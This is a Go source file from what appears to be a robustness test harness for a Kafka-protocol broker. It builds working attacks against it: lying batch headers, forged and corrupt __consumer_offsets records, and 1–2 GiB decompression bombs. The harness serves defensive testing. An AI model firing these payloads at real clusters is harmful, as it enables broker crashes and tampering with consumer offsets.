package main

import (
	"context"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/twmb/franz-go/pkg/kmsg"
)

// allAttacks lists every case in the order the table shows them.
func allAttacks() []attack {
	return []attack{
		{id: "1a", name: "Produce: batch header claims 2^31-1 records, holds one; then ListOffsets by timestamp", run: countLie(math.MaxInt32)},
		{id: "1b", name: "Produce: batch header claims 5 records, holds one; then ListOffsets by timestamp", run: countLie(5)},
		{id: "1c", name: "Produce: record length 1,000,000 inside a 70-byte batch; then ListOffsets by timestamp", run: lengthLie},
		{id: "1d", name: "ListOffsets by timestamp again on 1a's partition (after the restart, if 1a crashed the broker)", run: listAgain},
		{id: "2a", name: "Produce of a forged offset commit (offset 424242) to __consumer_offsets", run: forgedCommit},
		{id: "2b", name: "Restart; the real group's committed offset (7) after loading", run: checkGroupAfterRestart, restarts: true},
		{id: "2c", name: "Produce of a corrupt record to the same __consumer_offsets partition", run: corruptOffsetsRecord},
		{id: "2d", name: "Restart; is the real group (same partition) still loadable?", run: checkGroupAfterRestart, restarts: true},
		{id: "3a", name: "xerial-framed snappy (S2 repeats) decompressing to 2 GiB; Produce + ListOffsets", run: bomb("attack-bomb-xerial", codecSnappy, xerialBomb)},
		{id: "3b", name: "gzip batch (16 members) decompressing to 1 GiB; Produce + ListOffsets", run: bomb("attack-bomb-gzip", codecGzip, zeroBomb(codecGzip, 1<<30))},
		{id: "3c", name: "zstd batch decompressing to 1 GiB; Produce + ListOffsets", run: bomb("attack-bomb-zstd", codecZstd, zeroBomb(codecZstd, 1<<30))},
		{id: "3d", name: "lz4 batch decompressing to 248 MiB (lz4's most under 1 MiB); Produce + ListOffsets", run: bomb("attack-bomb-lz4", codecLZ4, zeroBomb(codecLZ4, 248<<20))},
		{id: "3e", name: "four concurrent zstd 1 GiB bombs (4 connections, 4 partitions)", run: concurrentBombs},
		{id: "3f", name: "raw snappy block using S2 extensions (193 MiB of zeros); Produce + ListOffsets", run: bomb("attack-bomb-s2", codecSnappy, s2Bomb)},
		{id: "4a", name: "100 MiB Metadata v4: ~13M distinct tiny topic names", run: bigFrame(metadataFlood)},
		{id: "4b", name: "100 MiB Fetch v4: ~6.5M partitions of one topic", run: bigFrame(fetchPartitionFlood)},
		{id: "4c", name: "100 MiB CreateTopics v2 (validate_only, illegal names, 0 partitions): ~4.6M topics", run: bigFrame(createTopicsFlood)},
		{id: "4d", name: "100 MiB DescribeConfigs v1: ~8M tiny topic resources", run: bigFrame(describeConfigsFlood)},
		{id: "4e", name: "1 MiB DescribeConfigs v1: one existing topic repeated", run: bigFrame(describeConfigsRepeat)},
		{id: "5", name: "Fetch naming one partition (24 KiB of data) 100,000 times, MaxBytes 2^31-1", run: fetchDuplicates},
		{id: "6a", name: "150 connections from 127.0.0.1 (max.connections=100, per.ip=50)", run: manyConnections},
		{id: "6b", name: "one idle connection (connections.max.idle.ms)", run: idleConnection},
		{id: "6c", name: "2,000 slow-loris connections (40 source IPs × 50), one byte every 5 s for 30 s", run: slowLoris},
		{id: "7", name: "CreateTopics of 3 × 10,000 partitions", run: partitionFlood},
		{id: "8", name: "AlterPartition / AllocateProducerIds / BrokerHeartbeat / ControlledShutdown on the client port", run: interBrokerAPIs},
	}
}

// produceAnswer sends one batch on w and says what came back.
func produceAnswer(w *wireConn, topic string, partition int32, batch []byte) string {
	resp, err := w.roundTrip(produceRequest(topic, partition, batch, -1), time.Minute)
	if err != nil {
		return describeErr(err)
	}
	p := resp.(*kmsg.ProduceResponse).Topics[0].Partitions[0]
	if p.ErrorCode != 0 {
		return errName(p.ErrorCode)
	}
	return fmt.Sprintf("accepted (offset %d)", p.BaseOffset)
}

// listOffsetsAnswer asks for the first offset at or after timestamp ts.
func listOffsetsAnswer(h *harness, w *wireConn, topic string, partition int32, ts int64) string {
	req := kmsg.NewPtrListOffsetsRequest()
	pickVersion(h.versions, req, 7)
	req.ReplicaID = -1
	t := kmsg.NewListOffsetsRequestTopic()
	t.Topic = topic
	p := kmsg.NewListOffsetsRequestTopicPartition()
	p.Partition = partition
	p.Timestamp = ts
	t.Partitions = append(t.Partitions, p)
	req.Topics = append(req.Topics, t)
	resp, err := w.roundTrip(req, time.Minute)
	if err != nil {
		return describeErr(err)
	}
	rp := resp.(*kmsg.ListOffsetsResponse).Topics[0].Partitions[0]
	if rp.ErrorCode != 0 {
		return errName(rp.ErrorCode)
	}
	return fmt.Sprintf("offset %d", rp.Offset)
}

// produceThenList produces batch to a fresh topic, then asks ListOffsets
// by timestamp 0 on it (the lookup that decodes a stored batch), each on
// an attacker connection.
func produceThenList(ctx context.Context, h *harness, topic string, batch []byte) outcome {
	if err := h.createTopic(ctx, topic, 1, nil); err != nil {
		return outcome{answer: "setup failed: " + err.Error()}
	}
	w, err := h.attackConn(ctx)
	if err != nil {
		return outcome{answer: "dial: " + describeErr(err)}
	}
	produced := produceAnswer(w, topic, 0, batch)
	w.Close()
	w, err = h.attackConn(ctx)
	if err != nil {
		return outcome{answer: "Produce: " + produced + "; ListOffsets: dial " + describeErr(err)}
	}
	defer w.Close()
	listed := listOffsetsAnswer(h, w, topic, 0, 0)
	return outcome{answer: fmt.Sprintf("Produce: %s; ListOffsets(ts=0): %s", produced, listed)}
}

func countLie(claim int32) func(context.Context, *harness) outcome {
	return func(ctx context.Context, h *harness) outcome {
		b := plainBatch(time.Now().UnixMilli(), record(0, 0, nil, []byte("one"), -1))
		// The header agrees with itself (last offset delta = count - 1);
		// only the records section lies.
		b.recordCount = claim
		b.lastOffsetDelta = claim - 1
		return produceThenList(ctx, h, fmt.Sprintf("attack-count-%d", claim), b.encode())
	}
}

// listAgain repeats 1a's lookup: a batch that crashed the broker once and
// stayed in the log crashes it again.
func listAgain(ctx context.Context, h *harness) outcome {
	w, err := h.attackConn(ctx)
	if err != nil {
		return outcome{answer: "dial: " + describeErr(err)}
	}
	defer w.Close()
	return outcome{answer: "ListOffsets(ts=0): " + listOffsetsAnswer(h, w, fmt.Sprintf("attack-count-%d", math.MaxInt32), 0, 0)}
}

func lengthLie(ctx context.Context, h *harness) outcome {
	b := plainBatch(time.Now().UnixMilli(), record(0, 0, nil, nil, 1_000_000)).encode()
	o := produceThenList(ctx, h, "attack-length", b)
	o.notes = fmt.Sprintf("batch of %d bytes", len(b))
	return o
}

// The consumer group whose committed offset the forged record targets.
const (
	victimGroup  = "attack-victim"
	victimTopic  = "attack-group-src"
	victimOffset = 7
	forgedOffset = 424242
)

// javaHash is Java's String.hashCode, which picks a group's partition of
// __consumer_offsets (abs(hash) % partitions; abs(MinInt32) is 0 there).
func javaHash(s string) int32 {
	var h int32
	for _, r := range s { // the names here are ASCII: one UTF-16 unit each
		h = 31*h + int32(r)
	}
	return h
}

func groupPartition(group string, partitions int) int32 {
	h := javaHash(group)
	if h == math.MinInt32 {
		h = 0
	} else if h < 0 {
		h = -h
	}
	return h % int32(partitions)
}

// offsetsPartition finds the __consumer_offsets partition of the victim
// group, committing the victim's offset first so that the topic and the
// group exist (the harness's setup, not counted).
func offsetsPartition(ctx context.Context, h *harness) (int32, error) {
	if err := h.createTopic(ctx, victimTopic, 1, nil); err != nil {
		return 0, err
	}
	w, err := h.setupConn(ctx)
	if err != nil {
		return 0, err
	}
	defer w.Close()
	var lastErr error
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(200 * time.Millisecond) {
		// FindCoordinator creates __consumer_offsets on first use.
		fc := kmsg.NewPtrFindCoordinatorRequest()
		pickVersion(h.versions, fc, 3)
		fc.CoordinatorKey = victimGroup
		resp, err := w.roundTrip(fc, 30*time.Second)
		if err != nil {
			return 0, err
		}
		if code := resp.(*kmsg.FindCoordinatorResponse).ErrorCode; code != 0 {
			lastErr = fmt.Errorf("find coordinator: %s", errName(code))
			continue
		}
		req := kmsg.NewPtrOffsetCommitRequest()
		pickVersion(h.versions, req, 8)
		req.Group = victimGroup
		req.Generation = -1
		t := kmsg.NewOffsetCommitRequestTopic()
		t.Topic = victimTopic
		p := kmsg.NewOffsetCommitRequestTopicPartition()
		p.Partition = 0
		p.Offset = victimOffset
		t.Partitions = append(t.Partitions, p)
		req.Topics = append(req.Topics, t)
		resp, err = w.roundTrip(req, 30*time.Second)
		if err != nil {
			return 0, err
		}
		if code := resp.(*kmsg.OffsetCommitResponse).Topics[0].Partitions[0].ErrorCode; code != 0 {
			lastErr = fmt.Errorf("commit: %s", errName(code))
			continue
		}
		md, err := h.metadata(ctx, w, "__consumer_offsets")
		if err != nil {
			return 0, err
		}
		if len(md.Topics) != 1 || len(md.Topics[0].Partitions) == 0 {
			return 0, fmt.Errorf("no __consumer_offsets in metadata")
		}
		h.groupCommitted = true
		return groupPartition(victimGroup, len(md.Topics[0].Partitions)), nil
	}
	return 0, lastErr
}

func forgedCommit(ctx context.Context, h *harness) outcome {
	p, err := offsetsPartition(ctx, h)
	if err != nil {
		return outcome{answer: "setup failed: " + err.Error()}
	}
	key := (&kmsg.OffsetCommitKey{Version: 1, Group: victimGroup, Topic: victimTopic, Partition: 0}).AppendTo(nil)
	v := kmsg.NewOffsetCommitValue()
	v.Version = 3
	v.Offset = forgedOffset
	v.LeaderEpoch = -1
	v.CommitTimestamp = time.Now().UnixMilli()
	val := v.AppendTo(nil)
	w, err := h.attackConn(ctx)
	if err != nil {
		return outcome{answer: "dial: " + describeErr(err)}
	}
	defer w.Close()
	ans := produceAnswer(w, "__consumer_offsets", p, plainBatch(time.Now().UnixMilli(), record(0, 0, key, val, -1)).encode())
	return outcome{answer: ans, notes: fmt.Sprintf("partition %d; the group committed %d before", p, victimOffset)}
}

func corruptOffsetsRecord(ctx context.Context, h *harness) outcome {
	p, err := offsetsPartition(ctx, h)
	if err != nil {
		return outcome{answer: "setup failed: " + err.Error()}
	}
	// Key version 1 (an offset commit) whose group string claims 16
	// bytes and has one.
	key := []byte{0, 1, 0, 16, 'x'}
	w, err := h.attackConn(ctx)
	if err != nil {
		return outcome{answer: "dial: " + describeErr(err)}
	}
	defer w.Close()
	ans := produceAnswer(w, "__consumer_offsets", p, plainBatch(time.Now().UnixMilli(), record(0, 0, key, []byte{0, 3, 1}, -1)).encode())
	return outcome{answer: ans, notes: fmt.Sprintf("partition %d", p)}
}

func checkGroupAfterRestart(ctx context.Context, h *harness) outcome {
	if !h.groupCommitted {
		// Run without 2a: the group needs its offset first.
		if _, err := offsetsPartition(ctx, h); err != nil {
			return outcome{answer: "setup failed: " + err.Error()}
		}
	}
	h.b.stop(30 * time.Second)
	if err := h.restart(ctx); err != nil {
		return outcome{answer: "restart failed: " + err.Error()}
	}
	w, err := h.setupConn(ctx)
	if err != nil {
		return outcome{answer: "dial: " + describeErr(err)}
	}
	defer w.Close()
	var last string
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(250 * time.Millisecond) {
		req := kmsg.NewPtrOffsetFetchRequest()
		pickVersion(h.versions, req, 7)
		req.Group = victimGroup
		t := kmsg.NewOffsetFetchRequestTopic()
		t.Topic = victimTopic
		t.Partitions = []int32{0}
		req.Topics = append(req.Topics, t)
		resp, err := w.roundTrip(req, 10*time.Second)
		if err != nil {
			last = describeErr(err)
			if w, err = h.setupConn(ctx); err != nil {
				break
			}
			continue
		}
		r := resp.(*kmsg.OffsetFetchResponse)
		if r.ErrorCode != 0 {
			last = errName(r.ErrorCode)
			continue
		}
		if len(r.Topics) != 1 || len(r.Topics[0].Partitions) != 1 {
			last = "malformed OffsetFetch answer"
			continue
		}
		rp := r.Topics[0].Partitions[0]
		if rp.ErrorCode != 0 {
			last = errName(rp.ErrorCode)
			continue
		}
		verdict := "intact"
		switch rp.Offset {
		case forgedOffset:
			verdict = "**the forged commit**"
		case victimOffset:
		default:
			verdict = "**changed**"
		}
		return outcome{answer: fmt.Sprintf("committed offset %d (%s)", rp.Offset, verdict), notes: logMentions(h, "__consumer_offsets")}
	}
	return outcome{answer: "group not loadable within 30 s: " + last, notes: logMentions(h, "__consumer_offsets")}
}

// logMentions quotes the broker log's last line about what (since the
// last start), so a coordinator that skipped or choked on a record shows.
func logMentions(h *harness, what string) string {
	data, err := os.ReadFile(filepath.Join(h.b.dir, "broker.log"))
	if err != nil {
		return ""
	}
	var last string
	for _, line := range strings.Split(string(data), "\n") {
		if strings.HasPrefix(line, "# ") {
			last = ""
		}
		if strings.Contains(line, what) && (strings.Contains(line, "level=WARN") || strings.Contains(line, "level=ERROR")) {
			last = line
		}
	}
	if len(last) > 300 {
		last = last[:300] + "…"
	}
	if last != "" {
		return "log: " + last
	}
	return ""
}

func xerialBomb() ([]byte, int64) {
	var blocks [][]byte
	for range 8 {
		blocks = append(blocks, s2RepeatBlock(16))
	}
	return xerialSnappy(blocks...), 8 * (5 + 16*(0xffffff+1<<16+4))
}

func s2Bomb() ([]byte, int64) {
	return s2RepeatBlock(12), 5 + 12*(0xffffff+1<<16+4)
}

func zeroBomb(codec int16, size int64) func() ([]byte, int64) {
	return func() ([]byte, int64) {
		b, err := compressZeros(codec, size)
		if err != nil {
			panic(err)
		}
		return b, size
	}
}

// bombBatch wraps compressed data as the records of a one-record batch.
func bombBatch(codec int16, data []byte) []byte {
	ts := time.Now().UnixMilli()
	b := batch{codec: codec, baseTimestamp: ts, maxTimestamp: ts, producerID: -1, producerEpoch: -1, baseSequence: -1, recordCount: 1, records: data}
	return b.encode()
}

func bomb(topic string, codec int16, mk func() ([]byte, int64)) func(context.Context, *harness) outcome {
	return func(ctx context.Context, h *harness) outcome {
		data, size := mk()
		b := bombBatch(codec, data)
		o := produceThenList(ctx, h, topic, b)
		o.notes = fmt.Sprintf("%s batch → %s decompressed", human(int64(len(b))), human(size))
		return o
	}
}

func concurrentBombs(ctx context.Context, h *harness) outcome {
	const topic = "attack-bomb-four"
	if err := h.createTopic(ctx, topic, 4, nil); err != nil {
		return outcome{answer: "setup failed: " + err.Error()}
	}
	data, size := zeroBomb(codecZstd, 1<<30)()
	b := bombBatch(codecZstd, data)
	answers := make([]string, 4)
	var wg sync.WaitGroup
	for i := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			w, err := h.attackConn(ctx)
			if err != nil {
				answers[i] = "dial: " + describeErr(err)
				return
			}
			produced := produceAnswer(w, topic, int32(i), b)
			w.Close()
			if w, err = h.attackConn(ctx); err != nil {
				answers[i] = produced + " / dial: " + describeErr(err)
				return
			}
			defer w.Close()
			answers[i] = produced + " / " + listOffsetsAnswer(h, w, topic, int32(i), 0)
		}()
	}
	wg.Wait()
	return outcome{
		answer: "Produce / ListOffsets(ts=0) per connection: " + strings.Join(answers, "; "),
		notes:  fmt.Sprintf("4 × %s batches → 4 × %s", human(int64(len(b))), human(size)),
	}
}
